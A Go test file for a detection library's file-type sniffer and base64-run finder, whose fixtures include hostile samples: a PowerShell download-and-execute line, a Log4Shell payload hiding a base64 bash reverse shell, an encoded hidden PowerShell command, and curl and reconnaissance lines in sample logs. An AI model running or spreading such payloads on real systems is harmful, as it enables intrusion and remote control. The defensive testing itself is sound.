package decode

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"compress/zlib"
	"encoding/base64"
	"encoding/binary"
	"math/rand/v2"
	"strings"
	"testing"
	"unicode/utf16"
)

func gz(b []byte) []byte {
	var buf bytes.Buffer
	w := gzip.NewWriter(&buf)
	w.Write(b)
	w.Close()
	return buf.Bytes()
}

func zl(b []byte) []byte {
	var buf bytes.Buffer
	w := zlib.NewWriter(&buf)
	w.Write(b)
	w.Close()
	return buf.Bytes()
}

func zipOf(name string, b []byte) []byte {
	var buf bytes.Buffer
	w := zip.NewWriter(&buf)
	f, _ := w.Create(name)
	f.Write(b)
	w.Close()
	return buf.Bytes()
}

func tarOf(name string, b []byte) []byte {
	var buf bytes.Buffer
	w := tar.NewWriter(&buf)
	w.WriteHeader(&tar.Header{Name: name, Mode: 0o644, Size: int64(len(b))})
	w.Write(b)
	w.Close()
	return buf.Bytes()
}

// pe is the start of a Windows executable: an MZ header whose e_lfanew (0x80)
// points at "PE\0\0".
func pe() []byte {
	b := make([]byte, 0x100)
	copy(b, "MZ")
	binary.LittleEndian.PutUint32(b[0x3c:], 0x80)
	copy(b[0x4e:], "This program cannot be run in DOS mode.")
	copy(b[0x80:], "PE\x00\x00")
	return b
}

func utf16le(s string) []byte {
	var b []byte
	for _, u := range utf16.Encode([]rune(s)) {
		b = append(b, byte(u), byte(u>>8))
	}
	return b
}

func TestSniff(t *testing.T) {
	cmd := []byte("IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1')")
	random := make([]byte, 512)
	r := rand.New(rand.NewPCG(1, 2))
	for i := range random {
		random[i] = byte(r.UintN(256))
	}
	random[0], random[1] = 0x00, 0x00 // no accidental signature
	peBytes := pe()
	badPE := pe()
	copy(badPE[0x80:], "XX")
	tests := []struct {
		name string
		in   []byte
		want Kind
	}{
		{"gzip", gz(cmd), Gzip},
		{"zlib", zl(cmd), Zlib},
		{"zip", zipOf("a.ps1", cmd), Zip},
		{"tar", tarOf("a.ps1", cmd), Tar},
		{"bzip2", []byte("BZh91AY&SY\x00\x01"), Bzip2},
		{"pe", peBytes, PE},
		{"pe cut before its PE header", peBytes[:0x60], PE},
		{"MZ then no PE header", badPE, Binary},
		{"text that passes the zlib header check", []byte(`HKLM\Software\Microsoft\Windows\CurrentVersion\Run`), UTF8},
		{"cut zlib stream", zl(cmd)[:12], Zlib},
		{"text starting MZ", []byte("MZ is where the story starts, and it is only text here."), UTF8},
		{"pdf", []byte("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj"), PDF},
		{"7z", []byte{'7', 'z', 0xbc, 0xaf, 0x27, 0x1c, 0, 4}, SevenZip},
		{"rar", []byte("Rar!\x1a\x07\x01\x00"), Rar},
		{"ole (msi)", []byte{0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0}, OLE},
		{"wim", []byte("MSWIM\x00\x00\x00\xd0\x00"), WIM},
		{"utf-16le powershell", utf16le(string(cmd)), UTF16LE},
		{"utf-16le with bom", append([]byte{0xff, 0xfe}, utf16le("héllo wörld")...), UTF16LE},
		{"utf-8", cmd, UTF8},
		{"utf-8 non-ascii", []byte("пароль: hunter2 — ok"), UTF8},
		{"random", random, Binary},
		{"text with NUL", []byte("abc\x00def"), Binary},
		{"control-heavy", []byte("\x01\x02\x03\x04ab"), Binary},
		{"empty", nil, Binary},
	}
	for _, tt := range tests {
		if got := Sniff(tt.in); got != tt.want {
			t.Errorf("%s: Sniff = %s, want %s", tt.name, got, tt.want)
		}
	}
	if !Gzip.IsContainer() || !Tar.IsContainer() || PE.IsContainer() || !UTF16LE.IsText() || Zip.IsText() {
		t.Error("kind predicates")
	}
	if Kind(99).String() != "binary" || UTF16LE.String() != "utf-16le" {
		t.Error("kind names")
	}
}

func TestBase64Runs(t *testing.T) {
	log4shell := "${jndi:ldap://1.2.3.4/Basic/Command/Base64/x} bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xMC4wLjAuMS84MDgwIDA+JjE=}|{base64,-d}|{bash,-i}"
	enc := base64.StdEncoding.EncodeToString(utf16le("IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1')"))
	wrapped := enc[:40] + "\r\n" + enc[40:]
	tests := []struct {
		name string
		in   string
		want []string
	}{
		{"log4shell payload", log4shell, []string{"YmFzaCAtaSA+JiAvZGV2L3RjcC8xMC4wLjAuMS84MDgwIDA+JjE="}},
		{"powershell -enc", "powershell.exe -nop -w hidden -enc " + enc + " ", []string{enc}},
		{"wrapped lines kept in one run", "x " + wrapped + "\n", []string{wrapped}},
		{"leading line break trimmed", "data:\n" + enc, []string{enc}},
		{"29 characters is too short", "a " + strings.Repeat("A", 29) + " b", nil},
		{"30 is enough", "a " + strings.Repeat("A", 30) + " b", []string{strings.Repeat("A", 30)}},
		{"at most two pads", strings.Repeat("QUJD", 8) + "===x", []string{strings.Repeat("QUJD", 8) + "=="}},
		{"two runs", strings.Repeat("a", 31) + " " + strings.Repeat("b", 32), []string{strings.Repeat("a", 31), strings.Repeat("b", 32)}},
		{"a path is a run too (decoding rejects it)", `C:/Windows/System32/WindowsPowerShell/v1.0`, []string{"/Windows/System32/WindowsPowerShell/v1"}},
		{"no base64", "Jan 10 05:48:09 host sshd[123]: Failed password for root from 10.0.0.1 port 22", nil},
		{"empty", "", nil},
	}
	for _, tt := range tests {
		var got []string
		for _, s := range Base64Runs([]byte(tt.in), 0) {
			got = append(got, tt.in[s.Start:s.End])
		}
		if strings.Join(got, "|") != strings.Join(tt.want, "|") {
			t.Errorf("%s:\n got  %q\n want %q", tt.name, got, tt.want)
		}
	}
	if got := Base64Runs([]byte(strings.Repeat("A", 40)), 50); got != nil {
		t.Errorf("min 50: %v", got)
	}
}

func FuzzBase64Runs(f *testing.F) {
	f.Add([]byte("bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xMC4wLjAuMS84MDgwIDA+JjE=}|{base64,-d}"))
	f.Add([]byte("\n\r\n" + strings.Repeat("A", 30) + "==\n==="))
	f.Fuzz(func(t *testing.T, in []byte) {
		last := 0
		for _, s := range Base64Runs(in, 0) {
			if s.Start < last || s.End > len(in) || s.End-s.Start < MinBase64 {
				t.Fatalf("bad span %+v (last %d, len %d)", s, last, len(in))
			}
			body := strings.TrimRight(string(in[s.Start:s.End]), "=")
			if len(string(in[s.Start:s.End]))-len(body) > 2 {
				t.Fatalf("more than two pads in %q", in[s.Start:s.End])
			}
			for i := 0; i < len(body); i++ {
				if !b64[body[i]] {
					t.Fatalf("byte %q in run %q", body[i], body)
				}
			}
			if body[0] == '\n' || body[0] == '\r' {
				t.Fatalf("run starts with a line break: %q", body)
			}
			last = s.End
		}
	})
}

func FuzzSniff(f *testing.F) {
	f.Add(gz([]byte("hello")))
	f.Add(pe())
	f.Add(utf16le("powershell"))
	f.Fuzz(func(t *testing.T, in []byte) {
		k := Sniff(in)
		if k.String() == "" {
			t.Fatal("kind without a name")
		}
	})
}

// logText is realistic log text without base64: syslog and Windows event lines.
func logText(n int) []byte {
	lines := []string{
		"Jan 10 05:48:09 web-03 sshd[2231]: Failed password for invalid user admin from 203.0.113.7 port 51234 ssh2\n",
		"2019-01-15T04:16:24.007Z MSTICAlertsWin1 4688 C:\\Windows\\System32\\cmd.exe /c whoami /all && net user /domain\n",
		"type=EXECVE msg=audit(1552500000.123:456): argc=3 a0=\"curl\" a1=\"-s\" a2=\"http://198.51.100.4/x.sh\"\n",
	}
	var b bytes.Buffer
	for i := 0; b.Len() < n; i++ {
		b.WriteString(lines[i%len(lines)])
	}
	return b.Bytes()[:n]
}

// BenchmarkBase64RunsNoBase64 is the scan over text with no payloads; Q3's target
// for decode scanning of such text is 200 MB/s.
func BenchmarkBase64RunsNoBase64(b *testing.B) {
	text := logText(16 << 20)
	b.SetBytes(int64(len(text)))
	for b.Loop() {
		if got := Base64Runs(text, 0); len(got) != 0 {
			b.Fatalf("found %d runs in text without base64", len(got))
		}
	}
}

func BenchmarkSniff(b *testing.B) {
	text := logText(64 << 10)
	b.SetBytes(int64(len(text)))
	for b.Loop() {
		Sniff(text)
	}
}

// TestZlibHeaderTextIsText runs every two-letter start that passes the zlib header
// check through Sniff inside ordinary text: none may come out as zlib.
func TestZlibHeaderTextIsText(t *testing.T) {
	n := 0
	for c := 0x20; c < 0x7f; c++ {
		for f := 0x20; f < 0x7f; f++ {
			hdr := []byte{byte(c), byte(f)}
			if byte(c)&0x0f != 8 || byte(c)>>4 > 7 || byte(f)&0x20 != 0 || (c<<8|f)%31 != 0 {
				continue
			}
			n++
			text := append(hdr, " is how this line of a PowerShell script starts; nothing is compressed here."...)
			if k := Sniff(text); k == Zlib {
				t.Errorf("%q sniffed as zlib", text)
			}
		}
	}
	if n == 0 {
		t.Fatal("no header-passing starts were tried")
	}
}
